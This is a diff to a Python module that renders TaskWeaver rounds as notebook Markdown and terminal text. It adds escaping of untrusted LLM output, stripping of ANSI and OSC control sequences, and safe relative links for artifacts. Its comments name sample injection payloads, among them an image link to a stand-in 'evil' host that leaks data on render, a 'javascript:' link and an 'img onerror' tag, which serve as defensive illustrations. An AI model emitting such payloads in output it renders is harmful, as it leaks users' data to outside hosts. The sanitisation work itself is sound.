@@ -4,14 +4,21 @@
 keeps the Round's `to_dict()` keys at the top level (what TaskWeaver tools read) and puts twnb's own view
 data in one `twnb` object. LLM text is untrusted: the Markdown escapes raw HTML, and every text drops
 TaskWeaver's prompt delimiters so markers never show.
+
+Saved notebooks stay small: an artifact image the Round's own code displayed is already in that
+execution's captured outputs (and in the cell), so its preview points at that output instead of
+carrying a second copy, and the Markdown links artifact files instead of embedding them.
 """
 
 from __future__ import annotations
 
 import base64
+import hashlib
 import io
 import json
 import mimetypes
+import re
+import urllib.parse
 from collections.abc import Iterable, Mapping, Sequence
 from pathlib import Path
 from typing import Any
@@ -106,11 +113,14 @@ def artifact_previews(
 ) -> list[dict[str, Any]]:
     """A preview per image artifact of `round`, each at most `cap_bytes` of image data.
 
-    Bigger images are scaled down with Pillow when it is installed; otherwise (or when even a small
-    thumbnail does not fit) the preview says why it was omitted instead of carrying the image.
+    An image the Round's code displayed is already in that execution's captured outputs: its preview
+    names that output (`"output": {"post_id", "attachment_id", "index"}`) instead of holding a copy.
+    Other images are embedded (`"data"`, base64); bigger ones are scaled down with Pillow when it is
+    installed, otherwise (or when even a small thumbnail does not fit) `"omitted"` says why.
     """
     previews: list[dict[str, Any]] = []
     seen: set[str] = set()
+    shown = displayed_images(round)
     for path_text in _artifact_paths(round):
         if path_text in seen:
             continue
@@ -120,8 +130,41 @@ def artifact_previews(
             path = Path(base_dir) / path
         if path.suffix.lower() not in _IMAGE_SUFFIXES:
             continue
-        previews.append(_preview(path, display_path(path, base_dir), cap_bytes))
+        previews.append(_preview(path, display_path(path, base_dir), cap_bytes, shown))
     return previews
+
+
+def displayed_images(round_or_posts: Any) -> dict[str, dict[str, Any]]:
+    """The images the code displayed, from the `execution_result` attachments' captured outputs:
+    sha256 of the image bytes -> where the output is (`post_id`, `attachment_id`, `index`)."""
+    posts = getattr(round_or_posts, "post_list", round_or_posts)
+    found: dict[str, dict[str, Any]] = {}
+    for post in posts:
+        for attachment in post.attachment_list:
+            if _type_name(attachment.type) != "execution_result":
+                continue
+            for index, output in enumerate((attachment.extra or {}).get("outputs") or []):
+                data = output.get("data") if isinstance(output, Mapping) else None
+                for mime in _BASE64_IMAGES:
+                    raw = _decoded(data.get(mime)) if isinstance(data, Mapping) else None
+                    if raw is not None:
+                        where = {"post_id": post.id, "attachment_id": attachment.id, "index": index}
+                        found.setdefault(hashlib.sha256(raw).hexdigest(), where)
+    return found
+
+
+_BASE64_IMAGES = ("image/png", "image/jpeg", "image/gif")
+
+
+def _decoded(payload: Any) -> bytes | None:
+    if isinstance(payload, list):  # nbformat allows multi-line strings as lists
+        payload = "".join(payload)
+    if not isinstance(payload, str):
+        return None
+    try:
+        return base64.b64decode(payload)
+    except ValueError:
+        return None
 
 
 def display_path(path: str | Path, base_dir: str | Path | None) -> str:
@@ -145,12 +188,17 @@ def _artifact_paths(round: Any) -> Iterable[str]:
             yield from [content] if isinstance(content, str) else [str(c) for c in content or []]
 
 
-def _preview(path: Path, name: str, cap_bytes: int) -> dict[str, Any]:
+def _preview(
+    path: Path, name: str, cap_bytes: int, shown: Mapping[str, dict[str, Any]]
+) -> dict[str, Any]:
     mime = mimetypes.guess_type(path.name)[0] or "application/octet-stream"
     try:
         raw = path.read_bytes()
     except OSError as error:
         return {"path": name, "mime": mime, "omitted": f"cannot read the file: {error.strerror or error}"}
+    output = shown.get(hashlib.sha256(raw).hexdigest())
+    if output is not None and len(raw) <= cap_bytes:
+        return {"path": name, "mime": mime, "size": len(raw), "output": dict(output)}
     if len(raw) > cap_bytes:
         thumb = _thumbnail(raw, cap_bytes)
         if thumb is None:
@@ -191,8 +239,56 @@ def _thumbnail(raw: bytes, cap_bytes: int) -> bytes | None:
 
 
 def escape_html(text: str) -> str:
-    """Raw HTML in Markdown shown as text: `<img onerror=...>` must never become an element."""
+    """Raw HTML shown as text: `<img onerror=...>` must never become an element."""
     return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+# Characters that build Markdown structure, written as character references: CommonMark never reads a
+# reference as structure, so `![x](https://evil/?q=...)` (an image that would load, and leak, on
+# render) and `[click](javascript:...)` stay text. Backslash escapes would not do: a backslash in the
+# text could cancel them.
+_INLINE_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", "[": "&#91;", "]": "&#93;", "\\": "&#92;"}
+_CODE_ESCAPES = {**_INLINE_ESCAPES, "*": "&#42;", "_": "&#95;", "`": "&#96;"}
+_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")
+_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})\s*([\w+-]*)")
+
+
+def escape_markdown(text: str) -> str:
+    """Untrusted text as Markdown that renders as the same text: no raw HTML, links or images.
+
+    Fenced code blocks are re-fenced (their content is literal); inline code spans become `<code>`
+    with escaped content. If this reading of the text differs from a renderer's, the result is only
+    less pretty, never live: everything outside the fences we write ourselves is escaped.
+    """
+    lines = text.split("\n")
+    out: list[str] = []
+    index = 0
+    while index < len(lines):
+        opened = _FENCE_OPEN.match(lines[index])
+        if opened is None:
+            out.append(_escape_inline(lines[index]))
+            index += 1
+            continue
+        marker = opened.group(1)
+        closing = re.compile(rf"^ {{0,3}}{re.escape(marker[0])}{{{len(marker)},}}\s*$")
+        end = next((i for i in range(index + 1, len(lines)) if closing.match(lines[i])), len(lines))
+        out += _fence("\n".join(lines[index + 1 : end]), opened.group(2))
+        index = end + 1
+    return "\n".join(out)
+
+
+def _escape_inline(line: str) -> str:
+    parts, position = [], 0
+    for span in _CODE_SPAN.finditer(line):
+        parts.append(_escape_chars(line[position : span.start()], _INLINE_ESCAPES))
+        parts.append("<code>" + _escape_chars(span.group(2), _CODE_ESCAPES) + "</code>")
+        position = span.end()
+    parts.append(_escape_chars(line[position:], _INLINE_ESCAPES))
+    return "".join(parts)
+
+
+def _escape_chars(text: str, table: Mapping[str, str]) -> str:
+    return "".join(table.get(char, char) for char in text)
 
 
 def clean_text(text: Any) -> str:
@@ -200,10 +296,32 @@ def clean_text(text: Any) -> str:
     return PromptUtil.remove_all_delimiters(text if isinstance(text, str) else _as_text(text))
 
 
+_CONTROL = re.compile(
+    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: colours, cursor moves, screen clears
+    r"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"  # OSC: titles, hyperlinks, clipboard writes
+    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]"
+)
+
+
+def plain_text(text: Any) -> str:
+    """Text for terminals: delimiters removed, and no control characters (an ANSI escape from the LLM
+    or a traceback could recolour, rewrite or retitle the user's terminal)."""
+    return _CONTROL.sub("", clean_text(text).replace("\r\n", "\n"))
+
+
+def artifact_url(name: str) -> str | None:
+    """A link target for an artifact shown as `name` (from `display_path`): relative paths only (the
+    notebook's folder), percent-encoded so a hostile file name cannot end the link or pick a scheme."""
+    if not name or Path(name).is_absolute() or name.startswith(("~", "\\")):
+        return None
+    return urllib.parse.quote(name, safe="/")
+
+
 def round_markdown(payload: Mapping[str, Any]) -> str:
     twnb = payload.get("twnb") or {}
     lines = [f"**twnb Round** `{payload.get('id', '')}` · {_state_label(payload)}", ""]
-    lines += ["> " + line for line in escape_html(clean_text(payload.get("user_query", ""))).splitlines()]
+    request = clean_text(payload.get("user_query", "")).splitlines()
+    lines += ["> " + _escape_inline(line) for line in request]
     lines.append("")
     plan = twnb.get("plan")
     if plan and plan.get("subtasks"):
@@ -213,29 +331,31 @@ def round_markdown(payload: Mapping[str, Any]) -> str:
             mark = "x" if step.get("state") == "done" else " "
             state = step.get("state", "")
             lines.append(
-                f"- [{mark}] {escape_html(clean_text(step.get('name', '')))} *({escape_html(state)})*"
+                f"- [{mark}] {_escape_inline(clean_text(step.get('name', '')))} *({_escape_inline(state)})*"
             )
         lines.append("")
     for post in payload.get("post_list") or []:
         lines.append(
-            f"**{escape_html(str(post.get('send_from')))} → {escape_html(str(post.get('send_to')))}**"
+            f"**{_escape_inline(str(post.get('send_from')))} → {_escape_inline(str(post.get('send_to')))}**"
         )
         lines.append("")
         message = clean_text(post.get("message") or "")
         if message.strip():
-            lines.append(escape_html(message))
+            lines.append(escape_markdown(message))
             lines.append("")
         for attachment in post.get("attachment_list") or []:
             lines += _attachment_markdown(attachment)
     failure = (payload.get("extra") or {}).get("failure_reason")
     if failure:
-        lines += [f"**Round failed:** {escape_html(clean_text(failure))}", ""]
+        lines += [f"**Round failed:** {_escape_inline(clean_text(failure))}", ""]
     for preview in twnb.get("previews") or []:
-        name = escape_html(str(preview.get("path", "")))
-        if preview.get("data") and preview.get("mime", "").startswith("image/"):
-            lines += [f"![{name}](data:{preview['mime']};base64,{preview['data']})", ""]
-        else:
-            lines += [f"*artifact {name}: {escape_html(str(preview.get('omitted', 'not shown')))}*", ""]
+        # A link, not the image bytes: they are in the previews and, for displayed figures, in the cell.
+        path = str(preview.get("path", ""))
+        url = artifact_url(path)
+        if preview.get("omitted"):
+            lines += [f"*artifact {_escape_inline(path)}: {_escape_inline(str(preview['omitted']))}*", ""]
+        elif url is not None:
+            lines += [f"![{_escape_inline(path)}]({url})", ""]
     summary = summary_line(payload)
     if summary:
         lines.append(f"*{summary}*")
@@ -249,7 +369,7 @@ def _attachment_markdown(attachment: Mapping[str, Any]) -> list[str]:
         return []
     if kind == "artifact_paths":
         paths = [content] if isinstance(content, str) else list(content)
-        return [f"*artifacts:* {', '.join('`' + escape_html(str(p)) + '`' for p in paths)}", ""]
+        return [f"*artifacts:* {', '.join(_escape_inline('`' + str(p) + '`') for p in paths)}", ""]
     text = clean_text(content)
     if kind in _CODE_TYPES:
         return [*_fence(text, "python"), ""]
@@ -257,7 +377,7 @@ def _attachment_markdown(attachment: Mapping[str, Any]) -> list[str]:
         return [f"*{kind.replace('_', ' ')}:*", "", *_fence(_clip(text), "text"), ""]
     if "\n" in text.strip():
         return [f"*{kind.replace('_', ' ')}:*", "", *_fence(_clip(text), "text"), ""]
-    return [f"*{kind.replace('_', ' ')}:* {escape_html(text)}", ""]
+    return [f"*{kind.replace('_', ' ')}:* {escape_markdown(text)}", ""]
 
 
 def _fence(text: str, language: str) -> list[str]:
@@ -288,15 +408,15 @@ def round_text(payload: Mapping[str, Any]) -> str:
     """Readable plain text for terminal IPython and anything that shows no Markdown."""
     twnb = payload.get("twnb") or {}
     lines = [f"twnb Round {payload.get('id', '')} [{_state_label(payload)}]"]
-    lines.append(f"request: {clean_text(payload.get('user_query', ''))}")
+    lines.append(f"request: {plain_text(payload.get('user_query', ''))}")
     plan = twnb.get("plan")
     if plan and plan.get("subtasks"):
         lines.append("plan:")
         for step in plan["subtasks"]:
-            lines.append(f"  [{step.get('state', '')}] {clean_text(step.get('name', ''))}")
+            lines.append(f"  [{plain_text(step.get('state', ''))}] {plain_text(step.get('name', ''))}")
     for post in payload.get("post_list") or []:
-        lines.append(f"--- {post.get('send_from')} -> {post.get('send_to')}")
-        message = clean_text(post.get("message") or "").strip()
+        lines.append(f"--- {plain_text(post.get('send_from'))} -> {plain_text(post.get('send_to'))}")
+        message = plain_text(post.get("message") or "").strip()
         if message:
             lines.append(message)
         for attachment in post.get("attachment_list") or []:
@@ -304,7 +424,7 @@ def round_text(payload: Mapping[str, Any]) -> str:
             content = attachment.get("content")
             if kind in _HIDDEN_TYPES or content in (None, "", []) or _is_no_error(kind, content):
                 continue
-            text = clean_text(content)
+            text = plain_text(content)
             if kind in _CODE_TYPES or kind in _RESULT_TYPES or "\n" in text.strip():
                 lines.append(f"[{kind}]")
                 lines += ["  " + line for line in _clip(text).splitlines()]
@@ -312,7 +432,7 @@ def round_text(payload: Mapping[str, Any]) -> str:
                 lines.append(f"[{kind}] {text}")
     failure = (payload.get("extra") or {}).get("failure_reason")
     if failure:
-        lines.append(f"Round failed: {clean_text(failure)}")
+        lines.append(f"Round failed: {plain_text(failure)}")
     summary = summary_line(payload)
     if summary:
         lines.append(summary)
